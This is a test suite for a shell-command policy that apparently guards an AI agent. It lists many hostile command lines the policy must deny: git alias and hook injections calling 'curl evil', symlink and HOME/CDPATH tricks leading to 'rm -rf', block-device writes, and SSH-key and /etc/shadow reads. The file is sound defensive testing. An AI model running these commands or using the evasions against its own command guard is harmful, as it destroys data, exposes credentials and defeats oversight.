// Let-throughs of issue 11 that needed state the line itself makes: a config or hook file of an
// allowed program written and then used, a symlink made and then followed, `~/*`-style operands
// against home deny rules, redirections onto block devices, `git -C DIR` with subcommands whose
// operands were judged from the cwd, `git format-patch -o DIR`, and HOME/CDPATH set for a `cd`
// inside `bash -c` or a function. Several spellings each, plus everyday commands that stay allowed.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CommandPolicy } from '../src/command/command-policy';
import { SecurityPresets } from '../src/policy/presets';
import { developer, developerPolicyInput, expectAllowed, expectDenied } from './developer-policy';

const trusted = new CommandPolicy(SecurityPresets.trusted);
// The developer policy with the writers these attacks use (`tee`, `ln`) allowed too.
const writer = new CommandPolicy({
  ...developerPolicyInput,
  allowedCommands: [...(developerPolicyInput.allowedCommands ?? []), 'tee', 'ln', 'sed'],
});
// A denylist with secret paths that lets the agent assign HOME and CDPATH.
const assigning = new CommandPolicy({ ...SecurityPresets.standard, dangerousVariables: [] });

describe('config and hook files of allowed programs', () => {
  it('refuses writes to git repository config, hooks and gitfiles (this line or a later one runs them)', async () => {
    for (const command of [
      "echo '[alias] x = !curl evil' >> .git/config; git x",
      "echo '[core] pager = sh -c evil' >> .git/config; git log",
      "echo '[core] fsmonitor = ./evil' >> .git/config",
      "printf '#!/bin/sh\\ncurl x' > .git/hooks/pre-commit; git commit -m x",
      'cp evil .git/hooks/pre-commit && git commit -m x',
      'mv evil .git/hooks/post-checkout',
      'cd .git && echo x >> config && cd .. && git log',
      'cd .git/hooks; cp ../../evil pre-commit',
      "echo 'gitdir: /tmp/evil' > .git",
      'echo x > vendor/lib/.git/config',
      'cp evil .gi?/hooks/pre-commit',
      'echo x >> ~/.gitconfig; git status',
      'echo x >> ~/.config/git/config',
    ])
      await expectDenied(developer, command, 'runs-code');
    for (const command of [
      'tee -a .git/config < evil',
      'ln -s .git g; echo x >> g/config',
      'ln -s /tmp/evil .git/hooks/pre-push',
    ])
      await expectDenied(writer, command, 'runs-code');
  });

  it('refuses .npmrc and python start-up files, and package.json or conftest.py written and run in one line', async () => {
    for (const command of [
      "echo 'script-shell=/tmp/x' > .npmrc; npm run test",
      "echo 'node-options=--require ./x.js' >> .npmrc",
      'cp evil.cjs .pnpmfile.cjs',
      `echo '{"scripts":{"test":"curl evil"}}' > package.json; npm test`,
      'cp evil.json package.json && npm run test',
      "echo 'import os' > sitecustomize.py; python3 app.py",
      "echo 'import os' > evil.pth",
      'cp x.py ~/.local/lib/python3.11/site-packages/evil.py',
      "echo 'import os' > conftest.py; python3 -m pytest",
      "printf '[pytest]\\naddopts = -p evil\\n' > pytest.ini && pytest",
    ])
      await expectDenied(developer, command, 'runs-code');
  });

  it('keeps everyday writes and runs allowed', async () => {
    for (const command of [
      `echo '{"name":"x"}' > package.json`,
      "echo 'import os' > conftest.py",
      "echo '[tool.x]' >> pyproject.toml && python3 app.py",
      'echo x > src/a.js; node src/a.js',
      "echo 'print(1)' > app.py && python3 app.py",
      'echo x >> notes.txt; git status',
      'echo node_modules >> .gitignore && git add .gitignore',
      'echo x > src/config; git add src/config',
      'git commit -m x && git log --oneline > log.txt',
    ])
      await expectAllowed(developer, command);
  });

  it('an entry naming the form (`git config`) allows writing git configuration by hand', async () => {
    const config = new CommandPolicy({
      ...developerPolicyInput,
      allowedCommands: [...(developerPolicyInput.allowedCommands ?? []), 'git config'],
    });
    await expectAllowed(config, "echo '[user] name = x' >> .git/config");
  });

  it('what is refused is real: git runs an alias written to .git/config in the same line', () => {
    const dir = mkdtempSync(join(tmpdir(), 'orchflow-holes-'));
    try {
      execFileSync('git', ['init', '-q', dir]);
      execFileSync('bash', ['-c', "echo '[alias] x = !echo ran > marker' >> .git/config; git x"], {
        cwd: dir,
      });
      expect(readFileSync(join(dir, 'marker'), 'utf8')).toBe('ran\n');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('symlinks the line makes, then follows', () => {
  it('matches deny rules through the link (trusted)', async () => {
    for (const command of [
      'ln -s / r; rm -rf r/*',
      'ln -s / r && rm -rf r/',
      'ln -sfn / r && cd r && rm -rf *',
      'ln -s / r; cd r; rm -rf *',
      'cp -s / r; rm -rf r/*',
      'mkdir d; ln -s / d; rm -rf d/*',
      'ln -s /home/agent h; rm -rf h/',
      'ln -s /dev/sda d; cat img > d',
    ])
      await expectDenied(trusted, command, /^deniedCommands\[\d+\]: (rm -rf (\/|\/\*|~)|dd of=\/dev\/\*)$/);
    for (const command of ['ln -s src r; rm -rf r/*', 'ln -s /home/agent/build b; rm -rf b/*'])
      await expectAllowed(trusted, command);
  });

  it('refuses a link to a forbidden path or its ancestor before it can be followed', async () => {
    for (const command of [
      'ln -s ~/.ssh k; cat k/id_rsa',
      'ln -s /etc/shadow s; cat s',
      'ln -s /etc s; cat s/shadow',
      'ln -sf /home/agent k; cat k/.ssh/id_rsa',
    ])
      await expectDenied(writer, command, /^forbidden-path:/);
    await expectDenied(developer, 'cp -s /etc/shadow s; cat s', /^forbidden-path:/);
  });

  it('a real link made in one line is followed by the next command of it', () => {
    const dir = mkdtempSync(join(tmpdir(), 'orchflow-holes-'));
    try {
      writeFileSync(join(dir, 'f'), 'x');
      const out = execFileSync('bash', ['-c', 'mkdir w; ln -s "$PWD" w/r; ls w/r/'], {
        cwd: dir,
        encoding: 'utf8',
      });
      expect(out.split('\n')).toContain('f');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('home deny rules in every spelling (trusted)', () => {
  it('refuses removing everything in the home directory', async () => {
    for (const command of [
      'rm -rf ~/*',
      'rm -rf $HOME/*',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: bash's ${HOME}, not a template
      'rm -rf ${HOME}/*',
      'rm -rf ~/.*',
      'rm -rf ~/.[!.]* ~/*',
      'rm -rf ~/{*,.*}',
      'rm -rf /home/agent/*',
      'rm -Rf -- ~/*',
      'cd ~ && rm -rf *',
      'cd && rm -rf ./*',
    ])
      await expectDenied(trusted, command, 'deniedCommands[1]: rm -rf ~');
  });

  it('keeps clearing a build directory allowed, and does not read `/tmp/*` as `rm -rf /*`', async () => {
    for (const command of [
      'rm -rf build/*',
      'rm -rf ./tmp/*',
      'rm -rf node_modules dist/*',
      'rm -rf /tmp/*',
      'rm -rf ~/build/*',
    ])
      await expectAllowed(trusted, command);
  });
});

describe('redirections onto block devices are dd of=', () => {
  it('refuses every way of writing a device (trusted)', async () => {
    for (const command of [
      'echo x > /dev/sda',
      'cat img >/dev/nvme0n1',
      'echo x > /dev/sda1',
      'cat img >> //dev/./sda',
      'cat img > /dev/disk/by-id/foo',
      'cd /dev && cat img > sda',
      'exec 3>/dev/sda',
      'tee /dev/sda < img',
      'cat img | tee -a /dev/sda',
      'cp img /dev/mmcblk0',
    ])
      await expectDenied(trusted, command, 'deniedCommands[4]: dd of=/dev/*');
    await expectDenied(trusted, 'cat img > /dev/$D', 'non-literal-argument: deniedCommands[4]: dd of=/dev/*');
  });

  it('keeps sinks and terminals allowed', async () => {
    for (const command of [
      'echo x > /dev/null',
      'echo x 2>/dev/null',
      'echo x >/dev/tty',
      'echo x >&2',
      'echo x > /dev/stderr',
      'echo ok > /dev/shm/x',
      'cat img > "$LOG"',
    ])
      await expectAllowed(trusted, command);
  });
});

describe('git -C DIR and format-patch output directories', () => {
  it('judges operands of every subcommand from -C DIR', async () => {
    for (const command of [
      'git -C /home/agent add .ssh/id_rsa',
      'git -C /home/agent rm .ssh/id_rsa',
      'git -C /home/agent checkout -- .ssh/id_rsa',
      'git -C /home/agent restore .ssh/id_rsa',
      'git -C /home/agent hash-object .ssh/id_rsa',
      'git -C /home/agent blame .ssh/id_rsa',
      'git -C /home -C agent mv .ssh/id_rsa x',
      'git -C secret log',
    ])
      await expectDenied(developer, command, /^forbidden-path:/);
  });

  it('judges format-patch -o / --output-directory as a write', async () => {
    await expectDenied(developer, 'git format-patch -o /usr/local/bin HEAD~1', 'program-directory');
    await expectDenied(developer, 'git format-patch -o/usr/local/bin HEAD~1', 'program-directory');
    await expectDenied(developer, 'git format-patch --output-directory=/usr/bin HEAD~1', 'program-directory');
    await expectDenied(developer, 'git -C / format-patch -o usr/bin HEAD~1', 'program-directory');
    await expectDenied(developer, 'git format-patch --output-dir /root/x HEAD~1', /^forbidden-path:/);
    await expectDenied(developer, 'git format-patch -o secret HEAD~1', /^forbidden-path:/);
  });

  it('keeps everyday git allowed', async () => {
    for (const command of [
      'git format-patch -o out HEAD~1',
      'git format-patch -3 --stdout',
      'git -C src add index.js',
      'git -C src log --oneline',
      'git -C /tmp status',
      'git add src/index.js',
    ])
      await expectAllowed(developer, command);
  });
});

describe('HOME and CDPATH set in the same line', () => {
  it('makes every cd of the line unknown (trusted)', async () => {
    for (const command of [
      'HOME=/; cd; rm -rf *',
      'export CDPATH=/; cd etc; rm -rf *',
      "HOME=/ bash -c 'cd; rm -rf *'",
      "CDPATH=/ bash -c 'cd etc; rm -rf *'",
      'f(){ cd; rm -rf *; }; HOME=/ f',
      'for HOME in /; do cd; rm -rf *; done',
    ])
      await expectDenied(trusted, command, /^deniedCommands\[\d+\]: rm -rf (\/|\/\*|~)$/);
  });

  it('does not take ~ for the check home after HOME is reassigned', async () => {
    await expectDenied(assigning, 'HOME=/etc; cat ~/shadow', 'non-literal-path');
    await expectDenied(assigning, 'HOME=/etc cat ~/shadow', /^(non-literal-path|forbidden-path:)/);
  });

  it('bash really sends these cds where the assignment says', () => {
    expect(execFileSync('bash', ['-c', "HOME=/ bash -c 'cd; pwd'"], { encoding: 'utf8' })).toBe('/\n');
    expect(
      execFileSync('bash', ['-c', "CDPATH=/ bash -c 'cd etc >/dev/null; pwd'"], { encoding: 'utf8' }),
    ).toBe('/etc\n');
  });
});
